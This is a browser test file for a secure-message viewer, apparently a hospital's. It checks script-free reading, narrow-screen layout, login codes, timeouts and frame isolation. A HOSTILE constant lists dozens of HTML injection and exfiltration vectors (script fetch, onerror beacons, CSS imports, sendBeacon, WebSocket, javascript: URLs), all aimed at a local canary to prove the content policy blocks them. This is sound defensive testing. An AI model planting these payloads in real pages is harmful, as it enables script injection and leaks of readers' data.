"""In a real browser: the way to a message without scripts, on a narrow screen, and the second wall of the body."""

from __future__ import annotations

import base64
import os

import pytest

from relayd.rendering.wire import Sanitised
from tests.kit.chromium import CHROMIUM, canary, chromium, serving
from tests.kit.ports import free_port
from tests.kit.viewer import open_site

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium isn't installed")

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg=="
)


@pytest.fixture
async def world(tmp_path):
    """A served Viewer, its address, and a browser."""
    port = free_port()
    address = f"http://127.0.0.1:{port}"
    viewer = {"url": address, "service_name": "Veilige post"}
    async with open_site(tmp_path, viewer=viewer) as site, serving(site.app, port), chromium() as browser:
        yield site, address, browser


def path_of(sent):
    text = sent.notification.replace(b"=\r\n", b"").decode()
    return text[text.index("/v/") : text.index("/v/") + 46]


async def picture(page, name):
    """Where a person wants to look at the pages: RELAYD_SCREENSHOTS names a folder."""
    folder = os.environ.get("RELAYD_SCREENSHOTS")
    if folder:
        await page.screenshot(path=f"{folder}/{name}.png", full_page=True)


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("width", [320, 1100])
async def test_reading_without_scripts_at_any_width(world, language, width):
    site, address, browser = world
    html = "<h2>Uitslag</h2><p>Beste Piet,</p><p>De uitslag is <b>goed</b>.</p>" + "<p>Nog een alinea.</p>" * 5
    sent = await site.deposit(
        html=html,
        attachments=(
            ("Uitslag bloedonderzoek 24 november 2026 definitieve versie.pdf", "application/pdf", b"%PDF" * 9000),
            ("foto.jpg", "image/jpeg", b"\xff\xd8" * 800_000),
        ),
    )
    context = await browser.new_context(viewport={"width": width, "height": 800}, java_script_enabled=False)
    page = await context.new_page()
    shown = f"{language}-{width}"
    await page.goto(f"{address}{path_of(sent)}?lang={language}")
    await fits(page, width)
    await picture(page, f"1-link-{shown}")
    await page.click("main form button")
    assert path_of(sent) not in page.url
    await fits(page, width)
    await picture(page, f"2-code-{shown}")
    await page.fill("#code", "000000" if site.phone.code != "000000" else "000001")
    await page.click("main form button")
    await fits(page, width)
    await picture(page, f"3-wrong-{shown}")
    await page.fill("#code", site.phone.code)
    await page.click("main form button")
    await page.frame_locator("iframe").locator("b").wait_for()
    await fits(page, width)
    await picture(page, f"4-message-{shown}")
    async with page.expect_download() as download:
        await page.click(".files a >> nth=0")
    assert (await download.value).suggested_filename.startswith("Uitslag bloedonderzoek")
    await page.goto(page.url.partition("?")[0] + "/body")
    assert "De uitslag is goed." in await page.inner_text("body")
    await picture(page, f"5-body-{shown}")
    await page.go_back()
    await page.click(".actions button")
    await fits(page, width)
    await picture(page, f"6-bye-{shown}")
    for name, path in (("unknown", "/v/x"), ("signed-out", f"/g/{'0' * 32}")):
        await page.goto(f"{address}{path}?lang={language}")
        await fits(page, width)
        await picture(page, f"7-{name}-{shown}")
    await context.close()


async def fits(page, width):
    """Nothing sticks out sideways (WCAG 2.2 1.4.10)."""
    right = [await element.bounding_box() for element in await page.query_selector_all("body *:visible")]
    assert max(one["x"] + one["width"] for one in right if one) <= width + 0.5


HOSTILE = """
<script>fetch('{canary}/script'); document.title = 'broken'; parent.document.title = 'broken'</script>
<script>top.location = '{canary}/top'</script>
<img src="{canary}/img"><img src=x onerror="new Image().src='{canary}/onerror'; document.title='broken'">
<link rel="stylesheet" href="{canary}/css">
<style>@import url({canary}/import); body {{ background: url({canary}/bg) }}</style>
<iframe src="{canary}/iframe"></iframe><object data="{canary}/object"></object><embed src="{canary}/embed">
<video src="{canary}/video" autoplay></video><audio src="{canary}/audio" autoplay></audio>
<svg><image href="{canary}/svg"/><script>document.title='broken'</script></svg>
<meta http-equiv="refresh" content="0;url={canary}/refresh"><base href="{canary}/">
<form id="f" action="{canary}/form" method="post"><input name="a"><button id="go">go</button></form>
<link rel="preload" as="image" href="{canary}/preload"><link rel="dns-prefetch" href="{canary}">
<link rel="icon" href="{canary}/icon"><link rel="preconnect" href="{canary}"><link rel="prerender" href="{canary}/pre">
<link rel="modulepreload" href="{canary}/module"><link rel="manifest" href="{canary}/manifest">
<script type="module">import('{canary}/import')</script><script type="speculationrules">
{{"prefetch": [{{"source": "list", "urls": ["{canary}/speculate"]}}]}}</script>
<img srcset="{canary}/srcset 1x, {canary}/srcset2 2x"><picture><source srcset="{canary}/source"><img></picture>
<table background="{canary}/table"><tr><td background="{canary}/td">x</td></tr></table>
<input type="image" src="{canary}/input">
<p style="background-image: image-set('{canary}/set' 1x); cursor: url({canary}/cursor), auto;
content: url({canary}/content)">
<style>@font-face {{ font-family: f; src: url({canary}/font) }} #end {{ font-family: f;
list-style: url({canary}/list) }}
#end::before {{ content: url({canary}/before) }} @namespace url({canary}/ns);</style>
<svg><use href="{canary}/use#x"/><feImage href="{canary}/feimage"/><style>@import '{canary}/svgcss'</style></svg>
<math><mtext><img src="{canary}/math"></mtext></math><frameset><frame src="{canary}/frame"></frameset>
<iframe srcdoc="<img src='{canary}/srcdoc'><script>parent.document.title='broken'</script>"></iframe>
<iframe src="javascript:top.document.title='broken'"></iframe><object data="data:text/html,<script>1</script>"></object>
<details open ontoggle="document.title='broken'"><summary>x</summary></details>
<body onload="document.title='broken'" onpageshow="new Image().src='{canary}/pageshow'">
<script>new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1'}}]}}); alert(1);
navigator.sendBeacon('{canary}/b')</script>
<script>new WebSocket('ws' + '{canary}'.slice(4)); new EventSource('{canary}/es'); open('{canary}/open')</script>
<script>navigator.serviceWorker.register('/static/session.js'); document.cookie = 'a=1'; localStorage.x = 1</script>
<a id="ping" href="#end" ping="{canary}/ping">ping</a><a id="js" href="javascript:document.title='broken'">js</a>
<p id="end">end</p>
"""


async def test_unsanitised_html_can_do_nothing_in_its_frame(world, monkeypatch):
    """The policy alone, with the sanitiser switched off."""
    monkeypatch.setattr(
        "relayd.rendering.renderer.sanitise", lambda html, *_: Sanitised(html, 0, 0, 0, 0, visible=True)
    )
    site, address, browser = world
    port = free_port()
    async with canary(port) as hits:
        sent = await site.deposit(html=HOSTILE.format(canary=f"http://127.0.0.1:{port}"))
        page = await (await browser.new_context()).new_page()
        await page.goto(address + path_of(sent))
        await page.click("main form button")
        await page.fill("#code", site.phone.code)
        await page.click("main form button")
        frame = page.frame_locator("iframe.body")
        await frame.locator("#end").wait_for()
        dialogs, pages, downloads = [], [], []
        page.on("dialog", lambda one: dialogs.append(one))
        page.context.on("page", lambda one: pages.append(one))
        page.on("download", lambda one: downloads.append(one))
        for each in ("#go", "#ping", "#js"):
            await frame.locator(each).click()
        await page.wait_for_load_state("networkidle")
        assert await page.title() == "Beveiligd bericht – Ziekenhuis Zuid"
        base = page.url
        await page.goto(f"{base}/body")
        for each in ("#go", "#ping", "#js"):
            await page.click(each)
        await page.wait_for_load_state("networkidle")
        assert await page.title() == "De tekst van het bericht"
        assert page.url.partition("#")[0] == f"{base}/body"
        assert (hits, dialogs, pages, downloads) == ([], [], [], [])
        assert {one["name"] for one in await page.context.cookies()} == {"__Host-vw"}


async def test_pictures_that_came_along_are_painted(world):
    site, address, browser = world
    sent = await site.deposit(html='<img src="cid:logo@zuid" alt="logo">', pictures={"logo@zuid": PNG})
    page = await (await browser.new_context()).new_page()
    await page.goto(address + path_of(sent))
    await page.click("main form button")
    await page.fill("#code", site.phone.code)
    await page.press("#code", "Enter")
    image = page.frame_locator("iframe.body").locator("img")
    await image.wait_for()
    assert await image.evaluate("image => image.naturalWidth") == 1


async def test_the_warning_comes_two_minutes_before_the_end(world):
    site, address, browser = world
    sent = await site.deposit()
    page = await (await browser.new_context()).new_page()
    errors = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    await page.clock.install()
    await page.goto(address + path_of(sent))
    await page.click("main form button")
    await page.fill("#code", site.phone.code)
    await page.click("main form button")
    await page.frame_locator("iframe.body").locator("pre").wait_for()
    await page.clock.fast_forward(1_079_000)
    assert await page.locator("[role=alert]").count() == 0
    await page.clock.fast_forward(2_000)
    assert "Over 2 minuten" in await page.inner_text("[role=alert]")
    await page.keyboard.press("Enter")
    await page.frame_locator("iframe.body").locator("pre").wait_for()
    assert await page.locator("[role=alert]").count() == 0
    # Playwright's own clock script tries to get into the frame too, and can't.
    assert [error for error in errors if "sandboxed" not in error] == []
